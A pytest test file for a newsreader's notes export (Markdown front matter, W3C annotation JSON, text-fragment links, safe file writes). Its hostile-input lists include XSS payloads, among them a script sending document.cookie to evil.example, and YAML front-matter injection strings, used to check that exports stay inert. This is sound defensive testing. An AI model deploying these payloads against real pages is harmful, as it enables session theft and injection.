"""Export: Markdown and W3C Web Annotation JSON, both parsed back."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader.article import Article, ArticleBuilder
from reader.notes.export import (
    ORPHAN_MARK,
    collect,
    to_annotations,
    to_json,
    to_markdown,
    yaml_string,
)
from reader.notes.fragments import passage_link
from reader.notes.model import Anchor
from reader.notes.store import NoteStore

PARAGRAPHS = [
    'Aleppo: "a city in ruins"',
    "The army said it had taken back 70 percent of the districts.",
    "> Not a quote marker: residents said the night was quiet.",
]


def make_article(paragraphs: list[str] = PARAGRAPHS, **meta: str | None) -> Article:
    builder = ArticleBuilder("aleppo.txt")
    builder.add("title", paragraphs[0])
    for paragraph in paragraphs[1:]:
        builder.add("paragraph", paragraph)
    meta.setdefault("title", paragraphs[0])
    return builder.build(**meta)


@pytest.fixture
def store(tmp_path: Path):
    with NoteStore.open(tmp_path / "notes.sqlite3") as opened:
        yield opened


def add(store: NoteStore, article: Article, phrase: str, note: str = "", **kw: Any):  # type: ignore[no-untyped-def]
    saved = store.remember_article(article)
    start = article.text.index(phrase)
    return store.add_highlight(saved.id, article.text, start, start + len(phrase), note=note, **kw)  # type: ignore[arg-type]


# No YAML parser is installed (PyYAML is not a dependency), so the front matter is read by
# this strict parser of exactly the YAML subset the export promises: `key: "double-quoted"`,
# `key:` (null), `key: []`, and `key:` followed by `  - "item"` lines. Anything else fails.
_YAML_KEY = re.compile(r"([a-z]+):(?: (.*))?")
_YAML_ESCAPE = re.compile(r'\\(?:(["\\nrt])|x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8}))')
_YAML_PLAIN = re.compile(r'[^"\\\x00-\x1f\x7f-\x9f\u2028\u2029\ufeff]')


def yaml_double_quoted(text: str) -> str:
    assert text.startswith('"') and text.endswith('"') and len(text) >= 2, text
    body, value, at = text[1:-1], [], 0
    while at < len(body):
        escape = _YAML_ESCAPE.match(body, at)
        if escape:
            simple, *codes = escape.groups()
            if simple:
                value.append({"n": "\n", "r": "\r", "t": "\t"}.get(simple, simple))
            else:
                value.append(chr(int(next(c for c in codes if c), 16)))
            at = escape.end()
            continue
        assert _YAML_PLAIN.match(body[at]), f"unescaped {body[at]!r} in {text}"
        value.append(body[at])
        at += 1
    return "".join(value)


def parse_front_matter(lines: list[str]) -> dict[str, str | list[str] | None]:
    front: dict[str, str | list[str] | None] = {}
    key = None
    for line in lines:
        if line.startswith("  - ") and key is not None and isinstance(front[key], list):
            front[key].append(yaml_double_quoted(line[4:]))  # type: ignore[union-attr]
            continue
        match = _YAML_KEY.fullmatch(line)
        assert match, f"not in the YAML subset: {line!r}"
        key, value = match.groups()
        assert key not in front, f"{key} twice"
        front[key] = [] if value is None or value == "[]" else yaml_double_quoted(value)
    # `key:` with no items below is null, as in YAML.
    return {k: (None if v == [] and f"{k}: []" not in lines else v) for k, v in front.items()}


def parse_markdown(document: str) -> tuple[dict[str, Any], list[tuple[str, list[str]]]]:
    """Front matter, and each block quote with the lines that follow it (blank lines dropped)."""
    lines = document.split("\n")
    assert lines[0] == "---"
    end = lines.index("---", 1)
    front = parse_front_matter(lines[1:end])
    entries: list[tuple[str, list[str]]] = []
    quote: list[str] | None = None
    for line in lines[end + 1 :]:
        if line.startswith(">"):
            if quote is None:
                quote = []
                entries.append(("", []))
            quote.append(line[2:] if line.startswith("> ") else line[1:])
            entries[-1] = ("\n".join(quote), entries[-1][1])
        else:
            quote = None
            if entries and line.strip():
                entries[-1][1].append(line)
    return front, entries


def test_markdown_has_front_matter_and_each_highlight_as_a_quote_with_its_note(
    store: NoteStore,
) -> None:
    article = make_article(
        url="https://example.org/aleppo",
        published="2016-12-07",
        byline="By Ann Lee and Bo Chan",
        site="Example News",
    )
    add(store, article, "70 percent", note="Check:\n> the UN figure #figures\nsecond line")
    add(store, article, 'Aleppo: "a city in ruins"\n\nThe army', tags=("aleppo", "figures"))
    saved = store.articles()[0]
    document = to_markdown([collect(store, saved)], exported="2026-11-24T20:00:00")
    front, entries = parse_markdown(document)
    assert front == {
        "title": 'Aleppo: "a city in ruins"',
        "source": "https://example.org/aleppo",
        "author": ["Ann Lee", "Bo Chan"],
        "published": "2016-12-07",
        "created": saved.first_saved[:10],
        "tags": ["aleppo", "figures"],  # the union of the highlights' tags
        "site": "Example News",
        "exported": "2026-11-24T20:00:00",
    }
    link = "https://example.org/aleppo#:~:text="
    assert entries == [
        (
            'Aleppo: "a city in ruins"\n\nThe army',
            [
                f"[Open the passage](<{link}Aleppo%3A%20%22a%20city%20in%20ruins%22,"
                "The%20army,-said%20it%20had>)",
                "Tags: #aleppo #figures",
            ],
        ),
        (
            "70 percent",
            [
                f"[Open the passage](<{link}had%20taken%20back-,70%20percent,"
                "-of%20the%20districts.>)",
                "Check:",
                "\\> the UN figure #figures",
                "second line",
            ],
        ),
    ]


def test_markdown_marks_orphans_and_keeps_their_text_and_note(store: NoteStore) -> None:
    old = make_article(url="https://example.org/a")
    add(store, old, "residents said the night was quiet", note="source?")
    new = make_article([PARAGRAPHS[0], "Completely rewritten story."], url="https://example.org/a")
    saved = store.remember_article(new)
    document = to_markdown([collect(store, saved)])
    _front, entries = parse_markdown(document)
    assert entries == [("residents said the night was quiet", [ORPHAN_MARK, "source?"])]


def test_markdown_of_several_articles_has_a_section_each(store: NoteStore) -> None:
    one = make_article()
    two = make_article(["Second story", "Budget talks stall again."])
    add(store, one, "70 percent", note="n1")
    add(store, two, "Budget talks", note="n2")
    items = [collect(store, s) for s in store.articles()]
    document = to_markdown(items)
    front, entries = parse_markdown(document)
    assert front["title"] == "newsreader notes"
    assert "## Second story" in document and '## Aleppo: "a city in ruins"' in document
    assert sorted(e[0] for e in entries) == ["70 percent", "Budget talks"]


def test_json_is_a_w3c_annotation_collection_that_round_trips(store: NoteStore) -> None:
    article = make_article(url="https://example.org/aleppo")
    noted = add(store, article, "70 percent", note="Check the UN figure")
    plain = add(store, article, "the night was quiet")
    quote = add(store, article, "a city in ruins", kind="quote", label="a city in ruins")
    saved = store.articles()[0]
    data = json.loads(to_json([collect(store, saved)]))
    assert data["@context"][0] == "http://www.w3.org/ns/anno.jsonld"
    assert data["type"] == "AnnotationCollection" and data["total"] == 3
    items = data["first"]["items"]
    by_exact = {item["target"]["selector"][0]["exact"]: item for item in items}
    for highlight in (noted, plain, quote):
        item = by_exact[highlight.anchor.exact]
        assert item["type"] == "Annotation"
        assert item["id"].replace("-", "").endswith(highlight.uid)
        assert item["target"]["source"] == "https://example.org/aleppo"
        quote_selector, position = item["target"]["selector"]
        assert quote_selector == {
            "type": "TextQuoteSelector",
            "exact": highlight.anchor.exact,
            "prefix": highlight.anchor.prefix,
            "suffix": highlight.anchor.suffix,
        }
        assert position["type"] == "TextPositionSelector"
        assert article.text[position["start"] : position["end"]] == highlight.anchor.exact
    assert by_exact["70 percent"]["body"] == {
        "type": "TextualBody",
        "value": "Check the UN figure",
        "format": "text/plain",
        "purpose": "commenting",
    }
    assert by_exact["70 percent"]["motivation"] == "commenting"
    assert "body" not in by_exact["the night was quiet"]
    assert by_exact["the night was quiet"]["motivation"] == "highlighting"
    assert by_exact["a city in ruins"]["newsreader:kind"] == "quote"


def test_json_orphans_have_only_their_quote_selector(store: NoteStore) -> None:
    old = make_article(url="https://example.org/a")
    add(store, old, "residents said the night was quiet", note="source?")
    saved = store.remember_article(
        make_article([PARAGRAPHS[0], "Rewritten."], url="https://example.org/a")
    )
    [item] = to_annotations([collect(store, saved)])["first"]["items"]
    assert [s["type"] for s in item["target"]["selector"]] == ["TextQuoteSelector"]
    assert item["newsreader:orphaned"] is True
    assert item["body"]["value"] == "source?"


def test_an_article_without_notes_exports_cleanly(store: NoteStore) -> None:
    saved = store.remember_article(make_article())
    item = collect(store, saved)
    front, entries = parse_markdown(to_markdown([item]))
    assert front["source"] == "aleppo.txt" and entries == []
    assert json.loads(to_json([item]))["total"] == 0


# -- Markdown export never passes HTML through (issue 10 item 13) -----------------------------

HOSTILE = [
    '<img src=x onerror="alert(1)">',
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "[click me](javascript:alert(1))",
    "![pixel](https://tracker.example/p.png?u=1)",
    "<https://tracker.example/autolink>",
    "&lt;script&gt; and \\[escaped\\] and <!-- comment -->",
    "[ref]: javascript:alert(2)",
]


def rendered(markdown: str) -> str:
    """The export as a notes app that renders HTML in Markdown would show it, with links
    not vetted (markdown-it itself refuses javascript: links; not every renderer does)."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda _url: True  # type: ignore[method-assign]
    body = markdown.split("---\n", 2)[2]  # without the front matter
    return md.render(body)


def test_html_in_quoted_text_notes_and_titles_is_exported_inert(store: NoteStore) -> None:
    article = make_article([f"Title {HOSTILE[0]}", *HOSTILE])
    saved = store.remember_article(article)
    for i, phrase in enumerate(HOSTILE):
        add(store, article, phrase, note=HOSTILE[(i + 1) % len(HOSTILE)])
    add(store, article, "[click me]", kind="quote", label=HOSTILE[1])
    markdown = to_markdown([collect(store, store.article(saved.id))])
    html = rendered(markdown)
    for tag in ("<img", "<script", "<a ", "<!--"):
        assert tag not in html, f"{tag} rendered live:\n{html}"
    # The text itself is all still there, shown as text.
    assert "&lt;script&gt;fetch(" in html and "[click me](javascript:alert(1))" in html
    assert "![pixel](https://tracker.example/p.png?u=1)" in html


def test_a_source_that_is_not_a_web_address_is_not_made_a_link(store: NoteStore) -> None:
    article = make_article(url="javascript:alert(1)")
    first = make_article([*PARAGRAPHS, "Other."], url="https://e.org/a")
    add(store, article, "70 percent", note="n")
    add(store, first, "70 percent", note="m")
    html = rendered(to_markdown([collect(store, s) for s in store.articles()]))
    assert 'href="javascript:' not in html and 'href="https://e.org/a"' in html


# -- writing an export file: whole or not at all, with the umask (issue 10 item 7) -----------

WRITE_WITH_A_SIZE_LIMIT = r"""
import resource, signal, sys
from pathlib import Path
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a file size limit stands in for a full disk
resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))
from reader.ui.notes_commands import _write_new
try:
    _write_new(Path(sys.argv[1]), "notes", ".md", "x" * 200_000)
except OSError as error:
    print("FAILED", error.strerror)
else:
    print("WROTE")
"""


def test_an_export_from_the_palette_that_fails_leaves_no_file(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    from tests.conftest import ROOT

    result = subprocess.run(
        [sys.executable, "-c", WRITE_WITH_A_SIZE_LIMIT, str(tmp_path)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=60,
        check=False,
    )
    assert result.stdout.startswith("FAILED"), result.stdout + result.stderr
    assert list(tmp_path.iterdir()) == []


def test_write_new_file_never_overwrites_and_follows_the_umask(tmp_path: Path) -> None:
    import os

    from reader.notes.export import write_export_file

    target = tmp_path / "notes.md"
    target.write_text("the user's own file", encoding="utf-8")
    with pytest.raises(FileExistsError):
        write_export_file(target, "new", overwrite=False)
    assert target.read_text(encoding="utf-8") == "the user's own file"
    old = os.umask(0o027)
    try:
        write_export_file(tmp_path / "other.md", "new", overwrite=False)
    finally:
        os.umask(old)
    assert (tmp_path / "other.md").stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.md", "other.md"]


# -- issue 15: exports that notes apps read ---------------------------------------------

HOSTILE_TITLES = [
    'Title"\ninjected: yes\n---\n# owned',
    "Line\u2028break\u0085and\rreturn\tand \\ backslash",
    "---",
    "tags: [evil]",
    "\ufeffbom and \x1b[31mescape",
    "emoji 😀 and é",
]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_front_matter_holds_any_title_and_byline_without_new_keys(
    store: NoteStore, title: str
) -> None:
    article = make_article(url="https://example.org/x", byline=title, site=title)
    add(store, article, "70 percent", note="n")
    saved = store.articles()[0]
    front, _entries = parse_markdown(to_markdown([collect(store, saved)]))
    assert list(front) == [
        "title",
        "source",
        "author",
        "published",
        "created",
        "tags",
        "site",
        "exported",
    ]
    # What the store kept (it sanitises control characters) comes back exactly.
    assert front["title"] == saved.title and front["site"] == saved.site


@given(st.text())
def test_yaml_strings_are_read_back_exactly_by_a_strict_parser(text: str) -> None:
    assert yaml_double_quoted(yaml_string(text)) == text
    assert "\n" not in yaml_string(text) and "\r" not in yaml_string(text)


_part = st.text(st.characters(blacklist_categories=["Cs"]), max_size=40)


@given(exact=_part.filter(lambda t: t.split()), prefix=_part, suffix=_part)
def test_text_fragments_encode_every_part_so_it_decodes_back(
    exact: str, prefix: str, suffix: str
) -> None:
    anchor = Anchor(exact, prefix, suffix, 0, len(exact))
    link = passage_link("https://example.org/a?b=1#old", anchor)
    assert link is not None and link.startswith("https://example.org/a?b=1#:~:text=")
    directive = link.split("#:~:text=", 1)[1]
    # Only the directive's own separators are left: the parts hold no raw , & - # or space.
    parts = directive.split(",")
    assert not re.search(r"[&#\s]", directive)
    has_prefix, has_suffix = parts[0].endswith("-"), parts[-1].startswith("-")
    terms = parts[int(has_prefix) : len(parts) - int(has_suffix)]
    assert len(terms) in (1, 2) and all("-" not in term for term in terms)
    decoded = [unquote(term) for term in terms]
    lines = [" ".join(line.split()) for line in exact.split("\n") if line.split()]
    if len(terms) == 1:
        assert decoded == [" ".join(exact.split())]
    else:
        assert lines[0].startswith(decoded[0]) and lines[-1].endswith(decoded[1])
    if has_prefix:
        before = unquote(parts[0][:-1])
        assert " ".join(prefix.rsplit("\n", 1)[-1].split()).endswith(before) and before
    if has_suffix:
        after = unquote(parts[-1][1:])
        assert " ".join(suffix.split("\n", 1)[0].split()).startswith(after) and after


@pytest.mark.parametrize(
    "url", [None, "/home/me/a.html", "file:///tmp/a.html", "javascript:alert(1)", "https://"]
)
def test_only_web_addresses_get_a_link_to_the_passage(url: str | None) -> None:
    assert passage_link(url, Anchor("text", "", "", 0, 4)) is None


def test_a_link_to_the_passage_cannot_leave_its_markdown_link(store: NoteStore) -> None:
    article = make_article(url="https://example.org/a b>(c)<\\d")
    add(store, article, "70 percent")
    document = to_markdown([collect(store, store.articles()[0])])
    [link] = [line for line in document.split("\n") if line.startswith("[Open the passage]")]
    assert re.fullmatch(r"\[Open the passage\]\(<[^<>\s\\]+>\)", link), link


def test_json_declares_its_extension_terms_and_has_tags_as_tagging_bodies(
    store: NoteStore,
) -> None:
    article = make_article(url="https://example.org/aleppo")
    add(store, article, "70 percent", note="Check #figures", tags=("un",))
    add(store, article, "a city in ruins", kind="quote", label="a city in ruins")
    data = json.loads(to_json([collect(store, store.articles()[0])]))
    context = data["@context"]
    assert context[0] == "http://www.w3.org/ns/anno.jsonld"
    declared = context[1]
    items = data["first"]["items"]
    used = {key for item in items for key in item if ":" in key}
    assert used == {"newsreader:kind", "newsreader:label"}
    assert used <= set(declared) and "newsreader" in declared
    by_exact = {item["target"]["selector"][0]["exact"]: item for item in items}
    bodies = by_exact["70 percent"]["body"]
    assert [(b["purpose"], b["value"]) for b in bodies] == [
        ("commenting", "Check #figures"),
        ("tagging", "un"),
        ("tagging", "figures"),
    ]
